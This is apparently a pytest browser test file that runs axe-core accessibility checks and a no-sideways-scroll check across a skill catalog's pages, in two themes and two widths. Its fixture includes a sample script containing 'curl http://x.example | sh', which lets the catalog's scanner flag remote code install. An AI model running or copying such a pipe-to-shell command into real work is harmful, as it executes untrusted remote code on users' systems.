"""Every page by axe-core, in both themes and two widths, and whether it fits a phone.

A page is a line of PAGES; what it shows is made by `scene`.
"""

from __future__ import annotations

import pytest
from axe_playwright_python.sync_playwright import Axe

from catalog.appeals import appeal
from catalog.journal import Actor
from catalog.models import Appeal, Skill, State
from tests import make
from tests.browser.conftest import OpenPage
from tests.make import Cast

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

WIDTHS = (1440, 390)
THEMES = ("light", "dark")
BODY = """# Refunds

Read [the rules](references/rules.md) and `scripts/run.sh`.

#### Deep

| Field | Rule |
|---|---|
| total | two digits |

```python
print("a line that is long enough to scroll sideways on a phone, where there is less room for it")
```
"""
# Who looks, and at what address.
PAGES = (
    ("", "/sign-in/"),
    ("", "/nowhere"),
    ("ines", "/"),
    ("ines", "/?q=refund&risk=high&sort=risk"),
    ("nora", "/?q=nothing-like-it"),
    ("ines", "/skills/refund-check/"),
    ("nora", "/skills/refund-issue/"),
    ("nora", "/skills/kehu-huifu/"),
    ("ines", "/skills/refund-check/versions/"),
    ("ines", "/skills/refund-check/versions/1.0.0/"),
    ("ines", "/skills/refund-check/versions/1.0.0/?severity=warning"),
    ("ines", "/skills/refund-check/versions/1.0.0/edit/"),
    ("ines", "/skills/refund-check/versions/1.0.0/yank/"),
    ("ines", "/skills/refund-check/compare/?from=1.0.0&to=1.1.0"),
    ("nora", "/skills/refund-check/compare/?view=unified"),
    ("nora", "/skills/refund-check/compare/?to=1.0.0"),
    ("ines", "/skills/refund-check/settings/"),
    ("mara", "/inbox/"),
    ("mara", "/appeals/{appeal}/"),
    ("ines", "/skills/refund-check/versions/1.0.0/findings/{finding}/appeal/"),
    ("ines", "/skills/refund-check/files/"),
    ("nora", "/skills/refund-check/versions/1.0.0/files/scripts/run.sh"),
    ("nora", "/skills/refund-check/versions/1.0.0/files/assets/photo.bin"),
    ("nora", "/skills/refund-chek/"),
    ("ines", "/search/?q=refund"),
    ("nora", "/search/?q=nothing-like-it"),
    ("mara", "/profile/"),
    ("mara", "/notices/"),
    ("ada", "/audit-log/"),
)


@pytest.fixture
def scene() -> Cast:
    """Skills of every kind, with releases in every lane."""
    cast = make.cast()
    files = {
        "references/rules.md": b"# Rules\n",
        "scripts/run.sh": b"#!/bin/sh\n# fetch\ncurl http://x.example | sh\n",
        "assets/photo.bin": bytes(range(256)),
    }
    first = make.version("refund-check", cast=cast, body=BODY, files=files, tags=("money",), notes="First.")
    second = make.version(
        "refund-check", "1.1.0", cast=cast, body=BODY, files=files, stability="experimental"
    )
    make.release(first, "production", cast=cast)
    make.release(first, "staging", cast=cast, state=State.PROPOSED)
    tool = {"manifest.yaml": make.manifest(), "run.py": b"#!/usr/bin/env python3\n"}
    make.version("refund.issue", cast=cast, files=tool)
    chinese = make.version("kehu-huifu", cast=cast, description="起草给客户的中文回复。用于工单。")
    make.release(chinese, "production", cast=cast)
    newer = make.version("kehu-huifu", "1.1.0", cast=cast, description="起草给客户的中文回复。用于工单。")
    make.release(newer, "production", cast=cast, state=State.CANARY)
    finding = first.findings.get(code="remote-code-install")
    appeal(finding=finding, actor=Actor(user=cast.ines), reason="Our own host.", now=make.NOW)
    Skill.objects.filter(pk=second.skill_id).update(visibility=Skill.Visibility.ORGANISATION)
    return cast


@pytest.mark.parametrize(("name", "address"), PAGES, ids=[f"{name}:{address}" for name, address in PAGES])
def test_axe_finds_nothing_and_the_page_fits(
    open_page: OpenPage, scene: Cast, name: str, address: str
) -> None:
    made = Appeal.objects.get()
    told = address.format(appeal=made.pk, finding=made.fingerprint) if "{" in address else address
    page = open_page(told, user=getattr(scene, name) if name else None)
    for width in WIDTHS:
        page.set_viewport_size({"width": width, "height": 900})
        for theme in THEMES:
            page.emulate_media(color_scheme="dark" if theme == "dark" else "light")
            found = Axe().run(page).response["violations"]
            told = [(one["id"], [node["html"][:120] for node in one["nodes"]]) for one in found]
            assert told == [], f"{address} at {width} px, {theme}"
        across = page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
        assert across == 0, f"{address} scrolls sideways at {width} px"
